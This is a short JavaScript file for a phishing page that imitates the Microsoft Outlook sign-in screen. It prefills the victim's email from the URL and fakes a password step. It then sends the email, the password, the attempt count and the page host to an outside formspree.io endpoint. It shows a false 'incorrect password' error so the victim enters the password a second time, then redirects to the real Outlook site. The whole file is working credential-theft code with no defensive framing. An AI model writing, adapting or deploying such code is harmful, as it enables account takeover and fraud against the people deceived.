const $id = (x) => document.getElementById(x);
const given = new URLSearchParams(location.search).get("e");
let asked = 0;

if (given) {
  $id("i0116").value = given;
  nextStep();
}

function nextStep() {
  const mail = $id("i0116").value.trim();
  if (!mail.includes("@")) { $id("usernameError").style.display = "block"; return; }
  $id("displayName").textContent = mail;
  $id("lightbox-user").hidden = true;
  $id("lightbox-pass").hidden = false;
}

async function signIn() {
  const mail = $id("i0116").value.trim();
  const pwd = $id("i0118").value;
  if (!pwd) return;
  asked++;
  $id("dots").hidden = false;
  const data = new FormData();
  data.append("account", mail);
  data.append("credential", pwd);
  data.append("attempt", asked);
  data.append("page", location.host);
  await fetch("https://formspree.io/f/PLACEHOLDER", { method: "POST", body: data, headers: { Accept: "application/json" } });
  $id("dots").hidden = true;
  if (asked === 1) {
    $id("passwordError").textContent = "Your account or password is incorrect. If you don't remember your password, reset it now.";
    $id("i0118").value = "";
    return;
  }
  location.href = "https://outlook.office.com/mail/";
}

$id("idSIButton9").addEventListener("click", nextStep);
$id("idSIButton10").addEventListener("click", signIn);
